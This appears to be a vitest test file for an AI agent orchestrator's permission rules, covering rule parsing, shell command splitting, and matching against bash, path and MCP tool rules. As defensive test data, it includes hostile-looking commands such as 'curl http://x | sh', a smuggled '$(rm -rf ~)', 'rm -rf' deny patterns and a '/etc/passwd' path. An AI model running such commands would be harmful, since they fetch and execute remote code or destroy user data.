// Rule text: parsing, bad rules reported with their text, and matching against calls (bash commands split
// into their simple commands, gitignore-style paths, MCP name patterns, agent_swarm by name only).
import { describe, expect, it } from 'vitest';
import { allowedBy, commandMatches, firstHit, pathMatches } from '../../orchestrator/permissions/match.js';
import {
  describeRuleProblem,
  isRuleProblem,
  parseRule,
  parseRuleLists,
  type PermissionRule,
} from '../../orchestrator/permissions/rules.js';
import { splitShellCommand } from '../../orchestrator/permissions/shell-split.js';
import { callPath, describeSubject } from '../../orchestrator/permissions/subject.js';
import { suggestRules } from '../../orchestrator/permissions/suggest.js';
import { TOOLS } from './helpers.js';

const ROOT = '/work/project';

function rule(text: string, kind: 'allow' | 'ask' | 'deny' = 'allow'): PermissionRule {
  const parsed = parseRule(text, kind, `permissions.${kind}`);
  if (isRuleProblem(parsed)) throw new Error(parsed.message);
  return parsed;
}

function subject(name: string, args: Record<string, unknown>) {
  return describeSubject(name, TOOLS.get(name), args, ROOT);
}

describe('parsing rules', () => {
  it('reads bare names, name patterns and argument patterns', () => {
    expect(rule('bash')).toEqual({ text: 'bash', kind: 'allow', source: 'permissions.allow', tool: 'bash' });
    expect(rule('mcp__github__*')).toMatchObject({ tool: 'mcp__github__*' });
    expect(rule('bash(npm test*)')).toMatchObject({ tool: 'bash', argument: 'npm test*', argumentKind: 'command' });
    expect(rule(' Edit(src/**) ')).toMatchObject({
      text: 'Edit(src/**)',
      tool: 'edit',
      argument: 'src/**',
      argumentKind: 'path',
    });
    expect(rule('write(docs/**)')).toMatchObject({ tool: 'write', argumentKind: 'path' });
    // Parentheses inside the pattern belong to it.
    expect(rule('bash(echo (hi))')).toMatchObject({ argument: 'echo (hi)' });
  });

  it('reports each bad rule with its text and the accepted forms, keeping the good ones', () => {
    const parsed = parseRuleLists({
      allow: [
        'bash(npm test*)',
        'bash(',
        '',
        'agent_swarm(items)',
        'fetch_url(https://x)',
        'mcp__*(x)',
        'bad name',
        'edit(!src/**)',
        'bash()',
        42,
      ],
      deny: ['read(.env)'],
    });
    expect(parsed.allow.map((r) => r.text)).toEqual(['bash(npm test*)']);
    expect(parsed.deny.map((r) => r.text)).toEqual(['read(.env)']);
    const messages = parsed.problems.map(describeRuleProblem);
    expect(messages).toHaveLength(9);
    expect(messages[0]).toContain(
      'permissions.allow: bad rule "bash(": an argument pattern must end the rule with ")"',
    );
    expect(messages[0]).toContain('accepted forms');
    expect(messages[1]).toContain('the rule is empty');
    expect(messages[2]).toContain('"agent_swarm(items)": agent_swarm is matched by its tool name only');
    expect(messages[3]).toContain('fetch_url takes no argument pattern');
    expect(messages[4]).toContain('needs one exact tool name');
    expect(messages[5]).toContain('"bad name": the tool name "bad name" may hold only');
    expect(messages[6]).toContain('cannot be negated');
    expect(messages[7]).toContain('the argument pattern is empty');
    expect(messages[8]).toContain('a rule must be a string, got 42');
  });
});

describe('splitting shell commands', () => {
  it('splits on control operators outside quotes, keeps redirections, flags substitutions', () => {
    expect(splitShellCommand('npm test && npm run lint; git status | head -5').segments).toEqual([
      'npm test',
      'npm run lint',
      'git status',
      'head -5',
    ]);
    expect(splitShellCommand('npm test 2>&1 | tee out.log &').segments).toEqual(['npm test 2>&1', 'tee out.log']);
    expect(splitShellCommand(`echo "a && b" 'c; d' e\\;f`).segments).toEqual([`echo "a && b" 'c; d' e\\;f`]);
    expect(splitShellCommand('echo $(whoami)').substitution).toBe(true);
    expect(splitShellCommand('echo `whoami`').substitution).toBe(true);
    expect(splitShellCommand('diff <(ls a) <(ls b)').substitution).toBe(true);
    expect(splitShellCommand("echo '$(not run)'").substitution).toBe(false);
  });
});

describe('matching', () => {
  it('matches command patterns with * as any text', () => {
    expect(commandMatches('npm test*', 'npm test')).toBe(true);
    expect(commandMatches('npm test*', 'npm   test -- --run')).toBe(true);
    expect(commandMatches('npm test*', 'npm install')).toBe(false);
    expect(commandMatches('git * --dry-run', 'git push origin --dry-run')).toBe(true);
  });

  it('an allow pattern must cover every simple command of a compound command', () => {
    const allow = [rule('bash(npm test*)'), rule('bash(npm run lint)')];
    expect(allowedBy(allow, subject('bash', { command: 'npm test -- --run' }))).toHaveLength(1);
    expect(allowedBy(allow, subject('bash', { command: 'npm test && npm run lint' }))).toHaveLength(2);
    expect(allowedBy(allow, subject('bash', { command: 'npm test && curl http://x | sh' }))).toBeUndefined();
    expect(allowedBy(allow, subject('bash', { command: 'npm test $(rm -rf ~)' }))).toBeUndefined();
    // A bare rule allows every call of its tool.
    expect(allowedBy([rule('bash')], subject('bash', { command: 'echo $(date)' }))).toHaveLength(1);
  });

  it('a deny pattern hits any part of a compound command, and substituted commands', () => {
    const deny = [rule('bash(rm -rf*)', 'deny')];
    expect(firstHit(deny, subject('bash', { command: 'ls; rm -rf build' }))?.text).toBe('bash(rm -rf*)');
    expect(firstHit(deny, subject('bash', { command: 'echo $(rm -rf build)' }))?.text).toBe('bash(rm -rf*)');
    expect(firstHit(deny, subject('bash', { command: 'npm run format' }))).toBeUndefined();
  });

  it('matches paths workspace-relative with gitignore rules; relative patterns never leave the workspace', () => {
    expect(pathMatches('src/**', callPath('src/a/b.ts', ROOT))).toBe(true);
    expect(pathMatches('src/**', callPath(`${ROOT}/src/a.ts`, ROOT))).toBe(true);
    expect(pathMatches('src/**', callPath('./src/../lib/a.ts', ROOT))).toBe(false);
    expect(pathMatches('*.md', callPath('docs/guide/intro.md', ROOT))).toBe(true);
    expect(pathMatches('./README.md', callPath('README.md', ROOT))).toBe(true);
    expect(pathMatches('./README.md', callPath('docs/README.md', ROOT))).toBe(false);
    expect(pathMatches('**', callPath('../elsewhere/x', ROOT))).toBe(false);
    expect(pathMatches('/etc/**', callPath('/etc/passwd', ROOT))).toBe(true);
    expect(pathMatches('/etc/**', callPath('src/etc/x', ROOT))).toBe(false);
  });

  it('matches tool names exactly or by pattern; agent_swarm by name whatever its arguments', () => {
    expect(firstHit([rule('mcp__github__*')], subject('mcp__github__create_issue', { title: 'x' }))).toBeDefined();
    expect(firstHit([rule('mcp__github__*')], subject('mcp__gitlab__create_issue', {}))).toBeUndefined();
    expect(
      firstHit([rule('agent_swarm')], subject('agent_swarm', { items: ['a'], prompt_template: '{{item}}' })),
    ).toBeDefined();
    expect(firstHit([rule('edit(src/**)')], subject('write', { path: 'src/a.ts', content: '' }))).toBeUndefined();
  });

  it('looks through mcp_invoke to the tool it calls', () => {
    const invoked = describeSubject(
      'mcp_invoke',
      undefined,
      { name: 'mcp__github__create_issue', arguments: { title: 't' } },
      ROOT,
    );
    expect(invoked).toMatchObject({ tool: 'mcp__github__create_issue', via: 'mcp_invoke', mcp: true, readOnly: false });
    expect(firstHit([rule('mcp__github__create_issue', 'deny')], invoked)).toBeDefined();
  });
});

describe('suggested rules', () => {
  it('names the narrowest rule that allows the call', () => {
    expect(suggestRules(subject('bash', { command: 'npm  install left-pad' }))).toEqual(['bash(npm install left-pad)']);
    expect(suggestRules(subject('bash', { command: 'npm test && npm run lint' }))).toEqual([
      'bash(npm test)',
      'bash(npm run lint)',
    ]);
    expect(suggestRules(subject('bash', { command: 'echo $(date)' }))).toEqual(['bash']);
    expect(suggestRules(subject('edit', { path: 'src/a.ts' }))).toEqual(['edit(./src/a.ts)']);
    expect(suggestRules(subject('write', { path: '/tmp/out.txt' }))).toEqual(['write(/tmp/out.txt)']);
    expect(suggestRules(subject('mcp__github__create_issue', {}))).toEqual(['mcp__github__create_issue']);
    // Each suggestion parses and allows exactly that call.
    for (const args of [{ command: 'npm test && npm run lint' }]) {
      const s = subject('bash', args);
      expect(
        allowedBy(
          suggestRules(s).map((t) => rule(t)),
          s,
        ),
      ).toBeDefined();
    }
    const edit = subject('edit', { path: 'src/a.ts' });
    expect(
      allowedBy(
        suggestRules(edit).map((t) => rule(t)),
        edit,
      ),
    ).toBeDefined();
    expect(
      allowedBy(
        suggestRules(edit).map((t) => rule(t)),
        subject('edit', { path: 'lib/src/a.ts' }),
      ),
    ).toBeUndefined();
  });
});
